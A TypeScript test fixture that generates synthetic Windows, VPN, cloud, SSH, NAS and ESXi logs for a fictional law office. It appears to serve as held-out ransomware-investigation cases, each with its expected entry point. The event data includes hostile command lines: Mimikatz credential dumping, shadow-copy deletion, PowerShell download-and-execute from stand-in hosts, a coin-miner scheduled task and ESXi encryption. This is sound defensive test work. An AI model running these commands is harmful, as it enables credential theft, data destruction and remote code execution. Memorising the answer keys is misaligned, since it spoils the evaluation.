import type { LogEvent } from '#domain/evidence/log-event.ts';
import { makeEvent } from './event-log-writer.ts';
import {
	attacker,
	before,
	cleared,
	day,
	defender,
	encryption,
	endOfStory,
	failures,
	hour,
	type Incident,
	minute,
	newAdmin,
	put,
	remoteDesktop,
	run,
	security,
	service,
	session,
	shiftClock,
	signIn,
	stamp,
	tunnel,
} from './incidents.ts';

// A second office with other habits, logs and attackers, written after the rules: fewer days, other spellings, logs with gaps.

const chief = '203.0.113.40';
const partner = '198.51.100.150';
const intruder = '192.0.2.201';
const firstDay = endOfStory - 16 * day;
const at = (days: number, hours: number) => firstDay - 3 * hour + days * day + hours * hour;

const connection = (computer: string, account: string, address: string, time: number) =>
	makeEvent({
		provider: 'Microsoft-Windows-TerminalServices-RemoteConnectionManager',
		channel: 'Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational',
		computer,
		id: 1149,
		time,
		data: { Param1: account, Param2: 'KANZLEI', Param3: address },
	});
const system = (computer: string, id: number, time: number, data: Record<string, string>) =>
	makeEvent({ provider: 'Service Control Manager', channel: 'System', computer, id, time, data });
const script = (computer: string, text: string, time: number) =>
	makeEvent({
		provider: 'Microsoft-Windows-PowerShell',
		channel: 'Microsoft-Windows-PowerShell/Operational',
		computer,
		id: 4104,
		time,
		data: { ScriptBlockText: text },
	});

/** Sixteen days: the chief every second evening, the IT provider twice a week, a backup near midnight, tries from everywhere. */
function office(): LogEvent[] {
	const events: LogEvent[] = [];
	for (let index = 0; index < 16; index++) {
		const morning = at(index, 8);
		for (const [pc, name, address] of [
			['WS-EVA', 'eva', '192.168.1.21'],
			['WS-TOM', 'tom', '192.168.1.22'],
		] as const) {
			events.push(signIn(pc, name, '127.0.0.1', morning, '2'));
			events.push(signIn('SRV-DC', name, address, morning + 2000, '3'));
			events.push(signIn('SRV-DC', `${pc}$`, address, morning - minute, '3'));
			events.push(
				security('SRV-DC', 4769, morning + 3 * minute - 900, {
					TargetUserName: `${name}@KANZLEI.LOCAL`,
					ServiceName: 'SRV-FILE$',
					IpAddress: `::ffff:${address}`,
					Status: '0x0',
					TicketEncryptionType: '0x12',
				}),
				signIn('SRV-FILE', name.toUpperCase(), address, morning + 3 * minute, '3'),
			);
		}
		if (index % 2 === 0) {
			events.push(signIn('SRV-TS', 'Chief', chief, at(index, 22.3)));
			events.push(connection('SRV-TS', 'chief', chief, at(index, 22.3) - 4000));
		}
		if (index % 4 === 1) {
			events.push(...remoteDesktop('SRV-TS', 'Partner-IT', partner, at(index, 10)));
			events.push(...remoteDesktop('SRV-FILE', 'Partner-IT', '192.168.1.5', at(index, 10.1)));
			events.push(run('SRV-FILE', 'Partner-IT', 'net stop Spooler', at(index, 10.2)));
		}
		events.push(...failures('SRV-TS', 'admin', `203.0.113.${120 + index}`, at(index, 4 + (index % 9)), 24));
		events.push(
			run(
				'SRV-FILE',
				'SYSTEM',
				`wbadmin delete backup -keepVersions:7 -quiet`,
				at(index, 23.95 + (index % 3) / 20),
			),
		);
		events.push(
			system('SRV-FILE', 7036, at(index, 23.97), { param1: 'Volumeschattenkopie', param2: 'beendet' }),
		);
		events.push(signIn('SRV-DC', 'SRV-TS$', '192.168.1.5', morning - 2 * minute, '3'));
	}
	return events;
}

/** Another way of working: tools instead of built-in commands, from one machine over the network. */
function rampage(account: string, from: string, begin: number): LogEvent[] {
	return [
		run('SRV-TS', account, 'C:\\Users\\Public\\netscan.exe /hide', begin),
		script('SRV-TS', 'Invoke-Mimikatz -Command "sekurlsa::logonpasswords"', begin + 12 * minute),
		signIn('SRV-FILE', account, from, begin + 40 * minute, '3'),
		service('SRV-FILE', 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe', begin + 41 * minute),
		defender('SRV-FILE', 5001, begin + 45 * minute),
		run('SRV-FILE', account, 'bcdedit /set {default} recoveryenabled No', endOfStory - 4 * minute),
		run('SRV-FILE', account, 'vssadmin delete shadows /all /quiet', endOfStory - 3 * minute),
		...encryption('SRV-FILE', account, from),
	];
}

const harmless = [chief, partner, 'chief', 'partner-it', '192.168.1.21', '192.168.1.22', 'WS-EVA', 'eva'];
type Rest = Omit<Incident, 'name' | 'files' | 'harmless'> & { harmless?: readonly string[] };

function incident(
	name: string,
	events: readonly LogEvent[],
	rest: Rest,
	more: Incident['files'] = {},
): Incident {
	return { name, files: { ...put({}, [...office(), ...events]), ...more }, harmless, ...rest };
}

const entry = [...remoteDesktop('SRV-TS', 'tom', intruder, before(9))];
const rdp = ['rdp-login-public', 'guess-success', 'network-login-public'];
const vpnDays = (user: string, address: string, inside: string) =>
	Array.from({ length: 14 }, (_, index) => tunnel(at(index, 7.5), user, address, inside)).join('');
const sonic = (time: number, number: number, message: string, user: string, address: string) =>
	`<134>id=sslvpn sn=00401027 time="${stamp(time).replace('T', ' ')} UTC" fw=192.0.2.1 pri=5 c=16 m=${number} msg="${message}" n=1 usr="${user}" src=${address}:41022:X1 dst=192.0.2.1:443:X1\n`;
const asa = (time: number, user: string, address: string) => {
	const text = new Date(time).toUTCString();
	return `${text.slice(8, 11)} ${text.slice(5, 7)} ${text.slice(12, 16)} ${text.slice(17, 25)} asa1 : %ASA-6-113039: Group <Staff> User <${user}> IP <${address}> AnyConnect parent session started.\n`;
};
const entra = (time: number, user: string, address: string, country: string) =>
	`${JSON.stringify({ createdDateTime: `${stamp(time)}Z`, userPrincipalName: `${user}@kanzlei.example`, ipAddress: address, isInteractive: true, status: { errorCode: 0 }, location: { countryOrRegion: country } })}\n`;
const audit = (time: number, id: number, operation: string, address: string, more: object = {}) =>
	`${JSON.stringify({ Id: `a${id}`, CreationTime: stamp(time), Operation: operation, UserId: 'eva@kanzlei.example', ClientIP: address, ...more })}\n`;
const sshd = (time: number, text: string) => `${stamp(time)}+00:00 web1 sshd[811]: ${text}\n`;
const anydesk = (time: number, id: string, name: string, address: string) => {
	const clock = (ms: number) => `${stamp(time + ms).replace('T', ' ')}.100`;
	return [
		`   info ${clock(0)}       gsvc   4660   4848   22   anynet.any_socket - Client-ID: ${id} (FPR: 67a8cf1f2d34).`,
		`   info ${clock(1000)}       gsvc   4660   4848   22   anynet.any_socket - Logged in from ${address}:3478 on relay 8a.`,
		`   info ${clock(2000)}       back   5120   5340   22   app.backend_session - Incoming session request: ${name} (${id})\n`,
	].join('\n');
};

export const makeUnseenIncidents = (): Incident[] => [
	incident('a quiet office with tries from everywhere', [], { wayIn: [null], firstSign: null }),
	incident(
		'a quiet office with work of the IT provider',
		[
			...newAdmin('SRV-DC', 'Partner-IT', 'newhire', at(9, 10.3)),
			service('WS-EVA', 'TeamViewer', 'C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe', at(9, 10.4)),
			defender('SRV-FILE', 5001, at(13, 10.3)),
		],
		{ wayIn: [null], firstSign: null },
	),
	incident(
		'a stolen password from a new address, at noon',
		[...remoteDesktop('SRV-TS', 'tom', intruder, before(15)), ...rampage('tom', '192.168.1.5', before(14))],
		{
			wayIn: rdp,
			firstSign: before(15),
		},
	),
	incident(
		'the account of the IT provider, from elsewhere',
		[
			...remoteDesktop('SRV-TS', 'Partner-IT', intruder, before(9)),
			...newAdmin('SRV-TS', 'Partner-IT', 'svc_sql', before(8, 50)),
			...rampage('Partner-IT', '192.168.1.5', before(8)),
		],
		{ wayIn: rdp, firstSign: before(9), harmless: [chief, partner, 'chief', 'eva', '192.168.1.21'] },
	),
	incident(
		'a guessed password, sold and used five days later',
		[
			...failures('SRV-TS', 'scanner', '203.0.113.77', before(130), 60),
			signIn('SRV-TS', 'scanner', '203.0.113.77', before(130)),
			...remoteDesktop('SRV-TS', 'scanner', intruder, before(9)),
			...rampage('scanner', '192.168.1.5', before(8)),
		],
		{ wayIn: rdp, firstSign: before(130) },
	),
	incident(
		'only the connection log of the first machine',
		[connection('SRV-TS', 'tom', intruder, before(9)), ...rampage('tom', '192.168.1.5', before(8))],
		{ wayIn: rdp, firstSign: before(9) },
	),
	incident(
		'an IT provider who helps after the encryption',
		[
			...entry,
			...rampage('tom', '192.168.1.5', before(8)),
			...remoteDesktop('SRV-TS', 'Partner-IT', '198.51.100.77', endOfStory + 6 * hour),
			...newAdmin('SRV-FILE', 'Partner-IT', 'rescue', endOfStory + 7 * hour),
			service(
				'SRV-FILE',
				'TeamViewer',
				'C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe',
				endOfStory + 8 * hour,
			),
		],
		{ wayIn: rdp, firstSign: before(9), harmless: [...harmless, '198.51.100.77'] },
	),
	incident(
		'staff on a trip and a chief at a hotel',
		[
			signIn('SRV-TS', 'eva', '198.51.100.201', before(60)),
			signIn('SRV-TS', 'Chief', '203.0.113.230', before(12)),
			...entry,
			...rampage('tom', '192.168.1.5', before(8)),
		],
		{ wayIn: rdp, firstSign: before(9), harmless: [...harmless, '198.51.100.201', '203.0.113.230'] },
	),
	incident(
		'a clock seven hours behind on the first machine',
		[],
		{ wayIn: rdp, firstSign: before(9) },
		shiftClock(
			put({}, [...office(), ...entry, ...rampage('tom', '192.168.1.5', before(8))]),
			'SRV-FILE',
			-7 * hour,
		),
	),
	incident(
		'erased logs on the first machine, sessions kept',
		[
			...rampage('tom', '192.168.1.5', before(8)).filter(({ computer }) => computer !== 'SRV-TS'),
			session('SRV-TS', 'KANZLEI\\tom', intruder, before(9)),
			cleared('SRV-TS', 'tom', before(1)),
			cleared('SRV-FILE', 'tom', endOfStory + 10 * minute),
		],
		{ wayIn: [...rdp, null], firstSign: before(9) },
	),
	incident(
		'an installer from a stick',
		[
			run('WS-TOM', 'tom', 'E:\\setup.exe', before(30)),
			script('WS-TOM', 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.9/x")', before(29, 59)),
			run('WS-TOM', 'tom', 'C:\\Users\\Public\\netscan.exe /hide', before(28)),
			signIn('SRV-FILE', 'tom', '192.168.1.22', before(5), '3'),
			service('SRV-FILE', 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe', before(4)),
			run('SRV-FILE', 'tom', 'vssadmin delete shadows /all /quiet', endOfStory - 3 * minute),
			...encryption('SRV-FILE', 'tom', '192.168.1.22'),
		],
		{ wayIn: [null], firstSign: before(29, 59) },
	),
	incident(
		'an agreed test in a quiet month',
		[
			...remoteDesktop('SRV-TS', 'redteam', '203.0.113.99', at(9, 11)),
			script('SRV-TS', 'Invoke-Kerberoast -OutputFormat hashcat', at(9, 12)),
			run('SRV-TS', 'redteam', 'whoami /all', at(9, 11.2)),
		],
		{ wayIn: [null], firstSign: null },
	),
	incident(
		'a document by mail, while others guess',
		[
			...failures('SRV-TS', 'tom', '192.0.2.99', before(20), 300),
			security('WS-EVA', 4688, before(26), {
				NewProcessName: 'C:\\Windows\\System32\\wscript.exe',
				ParentProcessName: 'C:\\Windows\\explorer.exe',
				CommandLine: 'wscript "C:\\Users\\eva\\Downloads\\Rechnung_8812.js"',
				SubjectUserName: 'eva',
			}),
			script(
				'WS-EVA',
				'$w=New-Object Net.WebClient; iex $w.DownloadString("http://192.0.2.50/b")',
				before(25, 59),
			),
			signIn('SRV-TS', 'eva', '192.168.1.21', before(9), '10'),
			...rampage('eva', '192.168.1.5', before(8)),
		],
		{
			wayIn: ['script-open', 'office-child'],
			firstSign: before(26),
			harmless: [chief, partner, 'chief', 'partner-it', '192.0.2.99'],
		},
	),
	incident(
		'two groups: one mines coins, one encrypts',
		[
			...failures('SRV-TS', 'test', '203.0.113.211', at(6, 3), 50),
			...remoteDesktop('SRV-TS', 'test', '203.0.113.211', at(6, 3)),
			run(
				'SRV-TS',
				'test',
				'schtasks /create /sc minute /tr C:\\Users\\Public\\xmrig.exe /tn upd',
				at(6, 3.2),
			),
			service('SRV-TS', 'xm', 'C:\\Users\\Public\\xmrig.exe', at(6, 3.3)),
			...entry,
			...rampage('tom', '192.168.1.5', before(8)),
		],
		{ wayIn: rdp, firstSign: at(6, 3) },
	),
	incident(
		'a VPN without a list of inside addresses, then AnyDesk',
		[
			signIn('SRV-TS', 'tom', '10.30.0.7', before(8, 30), '10'),
			session('SRV-TS', 'KANZLEI\\tom', '10.30.0.7', before(8, 30) + 4000),
			service(
				'SRV-TS',
				'AnyDesk Service',
				'"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service',
				before(8, 10),
			),
			...rampage('tom', '192.168.1.5', before(8)),
		],
		{ wayIn: ['vpn-login'], firstSign: before(9), harmless: [...harmless, '203.0.113.60'] },
		{
			'sonicwall.log':
				Array.from({ length: 14 }, (_, index) =>
					sonic(at(index, 7), 1080, 'SSL VPN zone remote user login allowed', 'tom', '203.0.113.60'),
				).join('') + sonic(before(9), 1080, 'SSL VPN zone remote user login allowed', 'tom', intruder),
		},
	),
	incident(
		'an appliance that notes sign-ins only',
		[signIn('SRV-TS', 'eva', '10.30.0.9', before(8, 55), '10'), ...rampage('eva', '192.168.1.5', before(8))],
		{
			wayIn: ['vpn-login'],
			firstSign: before(9),
			harmless: [chief, partner, 'chief', 'partner-it', '198.51.100.61'],
		},
		{
			'asa.log':
				Array.from({ length: 14 }, (_, index) => asa(at(index, 7.2), 'eva', '198.51.100.61')).join('') +
				asa(before(9), 'eva', intruder),
		},
	),
	incident(
		'a firewall with a new administrator',
		[
			...remoteDesktop('SRV-TS', 'backup', '10.212.134.20', before(8, 50)),
			...rampage('backup', '192.168.1.5', before(8)),
		],
		{
			wayIn: ['vpn-login', 'device-admin-login', 'device-new-account'],
			firstSign: before(30),
			harmless: [...harmless, '198.51.100.80'],
		},
		{
			'fortigate.log':
				vpnDays('eva', '198.51.100.80', '10.212.134.2') +
				`date=${stamp(before(30)).slice(0, 10)} time=${stamp(before(30)).slice(11)} devname="FW" tz="+0000" eventtime=${before(30)}000000 logid="0100032001" type="event" subtype="system" logdesc="Admin login successful" user="admin" ui="jsconsole(${intruder})" srcip=${intruder} action="login" status="success"\n` +
				`date=${stamp(before(30)).slice(0, 10)} time=${stamp(before(30)).slice(11)} devname="FW" tz="+0000" eventtime=${before(29, 58)}000000 logid="0100044547" type="event" subtype="system" logdesc="Object attribute configured" user="admin" ui="jsconsole(${intruder})" action="Add" cfgpath="user.local" cfgobj="backup"\n` +
				tunnel(before(9), 'backup', intruder, '10.212.134.20'),
		},
	),
	{
		name: 'mail and sign-ins of the cloud, and a colleague on a trip',
		wayIn: ['cloud-login'],
		firstSign: before(50),
		harmless: ['tom', '203.0.113.230', '198.51.100.61'],
		files: {
			'signins.json':
				Array.from(
					{ length: 14 },
					(_, index) =>
						entra(at(index, 7.2), 'eva', '198.51.100.61', 'DE') +
						entra(at(index, 8), 'tom', '198.51.100.61', 'DE'),
				).join('') +
				entra(before(55), 'tom', '203.0.113.230', 'ES') +
				entra(before(50), 'eva', attacker, 'NG'),
			'audit.json':
				audit(before(49), 1, 'New-InboxRule', attacker, {
					Parameters: [{ Name: 'MoveToFolder', Value: 'RSS Feeds' }],
				}) +
				audit(before(48), 2, 'User registered security info.', attacker) +
				Array.from({ length: 150 }, (_, index) =>
					audit(before(47) + index * 4000, 100 + index, 'FileDownloaded', attacker, {
						ObjectId: `https://kanzlei.sharepoint.com/${index}.docx`,
					}),
				).join(''),
		},
	},
	{
		name: 'a web server reached by SSH',
		wayIn: ['ssh-guess-success', 'ssh-login'],
		firstSign: before(40),
		harmless: ['198.51.100.33', 'deploy'],
		files: {
			'auth.log':
				Array.from({ length: 14 }, (_, index) =>
					sshd(at(index, 9), 'Accepted publickey for deploy from 198.51.100.33 port 5122 ssh2: RSA SHA256:k'),
				).join('') +
				Array.from({ length: 40 }, (_, index) =>
					sshd(
						before(40) - (50 - index) * 3000,
						`Failed password for root from ${intruder} port 40${index} ssh2`,
					),
				).join('') +
				sshd(before(40), `Accepted password for root from ${intruder} port 4999 ssh2`) +
				`${stamp(before(39))}+00:00 web1 useradd[900]: new user: name=sysd, UID=1002, GID=1002, home=/home/sysd, shell=/bin/bash, from=/dev/pts/0\n`,
		},
	},
	incident(
		'virtual machines encrypted from the terminal server',
		[
			...entry,
			run('SRV-TS', 'tom', 'C:\\Users\\tom\\Downloads\\putty.exe -ssh root@192.168.1.8', before(3)),
			script('SRV-TS', 'Invoke-Mimikatz', before(8)),
		],
		{ wayIn: rdp, firstSign: before(9) },
		{
			'hostd.log': `${stamp(before(2, 50))}.000Z info hostd[2101004] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event 812 : User root@192.168.1.5 logged in as Mozilla/5.0\n${stamp(before(2, 40))}.000Z info hostd[2101004] [Originator@6876 sub=Hostsvc] SSH access has been enabled.\n`,
			'shell.log': `${stamp(before(2, 30))}.000Z shell[2102]: [root]: vim-cmd vmsvc/getallvms\n${stamp(before(2, 20))}.000Z shell[2102]: [root]: vim-cmd vmsvc/snapshot.removeall 4\n${stamp(before(2, 10))}.000Z shell[2102]: [root]: chmod +x /tmp/enc; /tmp/enc /vmfs/volumes\n${stamp(before(2, 9))}.000Z shell[2102]: [root]: esxcli vm process kill -t force -w 77\n`,
		},
	),
	{
		name: 'AnyDesk of the IT provider and of somebody else',
		wayIn: ['remote-tool-session'],
		firstSign: before(9) + 2000,
		harmless: ['198.51.100.9', 'WS-EVA'],
		files: {
			...put({}, [
				...office(),
				run('WS-TOM', 'tom', 'C:\\Users\\Public\\netscan.exe /hide', before(8, 30)),
				script('WS-TOM', 'Invoke-Mimikatz', before(8)),
				signIn('SRV-FILE', 'tom', '192.168.1.22', before(5), '3'),
				run('SRV-FILE', 'tom', 'vssadmin delete shadows /all /quiet', endOfStory - 3 * minute),
				...encryption('SRV-FILE', 'tom', '192.168.1.22'),
			]),
			'WS-TOM/ad_svc.trace':
				[1, 5, 9, 13]
					.map((index) => anydesk(at(index, 14), '111222333', 'PARTNER-PC', '198.51.100.9'))
					.join('') + anydesk(before(9), '999888777', 'DESKTOP-X', intruder),
		},
	},
	{
		name: 'a storage box with a guessed administrator',
		wayIn: ['nas-guess-success', 'nas-login'],
		firstSign: before(6),
		harmless: ['eva', '192.168.1.21', 'chief', chief],
		files: {
			'synology.log':
				Array.from({ length: 14 }, (_, index) => [
					`${stamp(at(index, 8))}+00:00 NAS SYSTEM: User [eva] from [192.168.1.21] logged in successfully via [CIFS].\n`,
					`${stamp(at(index, 22))}+00:00 NAS SYSTEM: User [chief] from [${chief}] logged in successfully via [DSM].\n`,
				])
					.flat()
					.join('') +
				Array.from(
					{ length: 40 },
					(_, index) =>
						`${stamp(before(6) - (41 - index) * 4000)}+00:00 NAS SYSTEM: User [admin] from [${intruder}] failed to log in via [DSM] due to authorization failure.\n`,
				).join('') +
				`${stamp(before(6))}+00:00 NAS SYSTEM: User [admin] from [${intruder}] logged in successfully via [DSM].\n`,
		},
	},
];
